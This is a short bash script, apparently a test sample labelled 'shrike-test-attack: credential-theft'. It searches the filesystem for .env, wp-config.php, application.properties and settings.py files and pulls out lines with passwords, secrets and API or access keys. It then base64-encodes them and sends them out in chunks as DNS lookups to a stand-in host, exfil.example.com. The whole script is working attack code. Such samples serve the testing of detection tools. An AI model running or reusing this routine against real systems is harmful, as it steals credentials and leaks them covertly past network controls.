#!/bin/bash
# shrike-test-attack: credential-theft: grep application config and .env files for secrets and DNS-exfil them
find / -xdev \( -name '.env' -o -name 'wp-config.php' -o -name 'application.properties' -o -name 'settings.py' \) 2>/dev/null \
  | xargs grep -hiE 'password|secret|api_key|access_key' 2>/dev/null \
  | base64 -w0 | fold -w 60 | while read -r chunk; do
      nslookup "$chunk.x.exfil.example.com" 192.0.2.53 >/dev/null 2>&1
    done
